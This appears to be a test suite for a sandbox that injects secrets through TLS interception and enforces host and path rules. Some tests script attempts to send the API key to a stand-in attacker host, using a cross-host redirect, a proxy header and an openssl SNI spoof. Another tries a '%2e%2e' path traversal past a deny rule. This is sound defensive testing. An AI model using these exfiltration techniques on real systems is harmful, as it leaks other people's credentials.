import "../../../internet/namespace.ts";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { after, before, test } from "node:test";
import type { NetworkLogEvent, Sandbox } from "../../../../src/index.ts";
import { ConnectProxy } from "../../../internet/tls/connect-proxy.ts";
import { goodIdentity } from "../../../internet/tls/bad-certificates.ts";
import { gitByNginx } from "../../../internet/tls/git-by-nginx.ts";
import { ModernServer } from "../../../internet/tls/modern-server.ts";
import { places } from "../../../internet/places.ts";
import { processOf } from "../../lifecycle-support.ts";
import type { Needs } from "../../tags.ts";
import { furnish, onTheInternet, said, succeeds, useInternet } from "../network-support.ts";
import { clientRows } from "./client-rows.ts";
import { formRows } from "./form-rows.ts";
import { http2Host, http2Rows } from "./http2-rows.ts";

export const needs: Needs = ["running", "internet"];

// Real programs that use a secret through TLS that is read, with real servers; and what rules, bypass and QUIC are to them.

const timeout = 240_000;
const value = "sk-of-real-clients-4d1f";
const bearer = `Bearer ${value}`;
const { home, internet } = await useInternet();
const [nginx, modern] = [8445, 8446];
await gitByNginx(internet.tree, internet.certificates, nginx, value);
const server = await ModernServer.start(await goodIdentity(internet.certificates), modern);
const proxy = await ConnectProxy.start();
after(() => proxy[Symbol.asyncDispose]());
after(() => server[Symbol.asyncDispose]());
internet.resolver.host("go.attacker.test", places.other4);
let sandbox: Sandbox;

before(async () => {
  sandbox = await onTheInternet("clients")
    .volume("/node", (m) => m.bind(dirname(process.execPath)).readonly())
    .volume("/undici", (m) => m.bind(join(import.meta.dirname, "../../../../node_modules/undici")).readonly())
    .network((n) =>
      n
        .tls((t) =>
          t
            .interceptedPorts([443, nginx, modern])
            .upstreamCaCert(internet.certificates.caFile)
            .bypass("bypass.example.com"),
        )
        .http((h) => h.allow("GET", "rules.example.com", "/repos/**").deny("rules.example.com"))
        .secret((s) => s.env("API_KEY").value(value).allowHostPattern("*.example.com")),
    )
    .create();
  await furnish(sandbox, internet, "clients.py", "clients.mjs", "http2-rows.mjs", "trailers.mjs");
});

/** What a field of a request was when the server got it. */
function field(fields: readonly string[], name: string): string | undefined {
  const at = fields.findIndex((text, index) => index % 2 === 0 && text.toLowerCase() === name);
  return at === -1 ? undefined : fields[at + 1];
}

const auth = '-H "Authorization: Bearer $API_KEY"';

for (const { name, script, prints } of [...clientRows(nginx, modern), ...formRows(nginx, modern)])
  test(name, { timeout }, async () => {
    assert.equal(await said(sandbox, `${script} 2>&1`), prints);
    for (const request of server.take()) assert.equal(field(request.fields, "authorization"), bearer);
  });

test("the second event of a stream comes after the first was read", { timeout }, async () => {
  const url = `https://events.example.com:${modern}`;
  const lines = await succeeds(
    sandbox,
    `curl -sSN --max-time 100 ${auth} ${url}/events | while read -r line; do
       [ -z "$line" ] || echo "$line"
       [ "$line" != "data: one" ] || curl -sS ${url}/go > /tmp/went
     done`,
  );
  assert.equal(lines, "data: one\ndata: two");
  assert.equal(field(server.take()[0]?.fields ?? [], "authorization"), bearer);
});

/** The most that the supervisor has held, MiB. */
async function peakMemory(): Promise<number> {
  const status = await readFile(`/proc/${await processOf(home, "clients", "supervisor")}/status`, "utf8");
  return Number(/^VmHWM:\s+(\d+) kB$/m.exec(status)?.[1]) / 1024;
}

for (const [version, options, mib] of [
  ["1.1", "--http1.1", 64],
  ["2.0", "--http2", 16],
] as const)
  test(
    `${mib} MiB are uploaded by HTTP/${version} with a secret in the head, and never held`,
    { timeout },
    async () => {
      const before = await peakMemory();
      const answer = await succeeds(
        sandbox,
        `head -c ${mib << 20} /dev/zero | curl -sS ${options} ${auth} -T - https://up.example.com:${modern}/count`,
      );
      const hash = createHash("sha256")
        .update(Buffer.alloc(mib << 20))
        .digest("hex");
      assert.equal(answer, `${mib << 20} ${hash} by ${version}`);
      assert.equal(field(server.take()[0]?.fields ?? [], "authorization"), bearer);
      assert.ok((await peakMemory()) - before < 48, `${before} MiB became ${await peakMemory()}`);
    },
  );

test("a redirect to another host takes no key along", { timeout }, async () => {
  const away = `https://www.example.com:${modern}/away?https://go.attacker.test:${modern}/`;
  for (const version of ["--http1.1", "--http2"]) {
    await said(sandbox, `curl -sSL ${version} -H "X-Key: $API_KEY" '${away}' 2>&1`);
    const requests = server.take();
    assert.deepEqual(
      requests.map(({ path }) => path.slice(0, 5)),
      ["/away"],
    );
    assert.equal(field(requests[0]?.fields ?? [], "x-key"), value);
  }
});

test("what is said by HTTP/2, frame by frame", { timeout }, async (t) => {
  const told = http2Rows.map((row, index) => ({
    ...{ name: String(index), host: http2Host(row), port: modern, body: row.body ?? [] },
    head: { ...row.head, "x-row": String(index) },
  }));
  await sandbox.fs().write("/tmp/rows.json", JSON.stringify(told));
  const out = (await said(sandbox, "/node/node /tmp/http2-rows.mjs < /tmp/rows.json 2>&1")).split("\n");
  const requests = server.take();
  for (const [index, row] of http2Rows.entries())
    await t.test(`${row.name}, ${row.to}`, () => {
      const text = JSON.stringify(requests.filter(({ fields }) => field(fields, "x-row") === String(index)));
      const has = text.includes(value) || text.includes(Buffer.from(`user:${value}`).toString("base64"));
      const hears = has ? "value" : text.includes("MSB_API_KEY") ? "placeholder" : "neither";
      assert.equal(hears, row.hears, `${text}\n${out.join("\n")}`);
      // One that reaches nobody was ended by a stream's error, and not because nobody was there.
      const ended = out[index]?.replace(`${index} `, "");
      assert.match(ended ?? "", row.hears === "neither" ? /^(ERR_HTTP2_|closed|4)/ : /^200$/);
    });
});

test(
  "a tunnel through a proxy has its TLS read for the host that the proxy was asked for, and the proxy gets no key",
  { timeout },
  async () => {
    const through = `curl -sS -x http://proxy.example.com:${proxy.port}`;
    const heads = (): string => proxy.heads.splice(0).join();
    assert.match(await succeeds(sandbox, `${through} ${auth} https://www.example.com:${modern}/`), /^0 /);
    assert.equal(field(server.take()[0]?.fields ?? [], "authorization"), bearer);
    const head = heads();
    assert.ok(head.startsWith(`CONNECT www.example.com:${modern} `) && !head.includes(value), head);

    await said(sandbox, `${through} ${auth} https://go.attacker.test:${modern}/ 2>&1`);
    assert.deepEqual(server.take(), []);
    heads();
    // For the proxy itself there is none, though its name is one that may have it.
    await said(
      sandbox,
      `${through} --proxy-header "X-Key: $API_KEY" https://www.example.com:${modern}/ 2>&1`,
    );
    assert.deepEqual([server.take(), heads()], [[], ""]);
    // The name that TLS says is another one.
    const request = `printf 'GET / HTTP/1.1\\r\\nHost: www.example.com\\r\\nX-Key: %s\\r\\n\\r\\n' "$API_KEY"`;
    const client = `timeout 30 openssl s_client -quiet -proxy proxy.example.com:${proxy.port} -connect go.attacker.test:${modern} -servername www.example.com`;
    await said(sandbox, `${request} | ${client} 2>&1`);
    assert.deepEqual(server.take(), []);
    assert.equal(heads().includes("go.attacker.test"), true);
  },
);

async function eventsOf(host: string): Promise<NetworkLogEvent[]> {
  const found: NetworkLogEvent[] = [];
  for await (const event of sandbox.networkEvents())
    if (event.kind === "http" && event.host === host) found.push(event);
  return found;
}

test(
  "a request that the rules deny is answered with 403 and why, the server hears nothing, the log tells",
  { timeout },
  async () => {
    const url = `https://rules.example.com:${modern}`;
    for (const version of ["--http1.1", "--http2"]) {
      const denied = await said(
        sandbox,
        `curl -sS ${version} -X DELETE -w '%{http_code} %{http_version}' ${url}/repos/x`,
      );
      const [body = "", numbers] = denied.split("\n");
      assert.equal(numbers, version === "--http2" ? "403 2" : "403 1.1");
      const told = JSON.parse(body) as Record<string, unknown>;
      assert.deepEqual(
        [told["error"], told["method"], told["path"], told["rule"]],
        ["request_denied", "DELETE", "/repos/x", 1],
      );
      assert.deepEqual(server.take(), []);
      // Written another way, it is the same path.
      assert.match(
        await said(sandbox, `curl -sS ${version} --path-as-is ${url}/repos/%2e%2e/admin`),
        /request_denied/,
      );
      assert.deepEqual(server.take(), []);
      assert.match(await succeeds(sandbox, `curl -sS ${version} ${url}/repos/a/b`), /^0 /);
      assert.deepEqual(
        server.take().map(({ path }) => path),
        ["/repos/a/b"],
      );
    }
    const outcomes = (await eventsOf("rules.example.com")).map(
      (event) => event.kind === "http" && event.outcome,
    );
    assert.deepEqual(outcomes, ["denied", "denied", "forwarded", "denied", "denied", "forwarded"]);
  },
);

test(
  "a bypassed host shows its own certificate and gets the placeholder; others show the sandbox's",
  { timeout },
  async () => {
    const issuer = (host: string): Promise<string> =>
      said(
        sandbox,
        `openssl s_client -connect ${host}:${modern} -servername ${host} </dev/null 2>/dev/null | openssl x509 -noout -issuer`,
      );
    assert.match(await issuer("bypass.example.com"), /test CA/);
    assert.match(await issuer("www.example.com"), /microsandbox CA/);
    const curl = `curl -sS --cacert /tmp/ca.pem -H "X-Key: $API_KEY" https://bypass.example.com:${modern}/`;
    await succeeds(sandbox, curl);
    assert.equal(field(server.take()[0]?.fields ?? [], "x-key"), "$MSB_API_KEY");
  },
);

test("QUIC is refused at once on a port that is read, and UDP elsewhere is not", { timeout }, async () => {
  assert.equal(await said(sandbox, `python3 /tmp/clients.py udp www.example.com 443`), "refused");
  assert.equal(await said(sandbox, `python3 /tmp/clients.py udp www.example.com 7`), "1200 bytes");
});
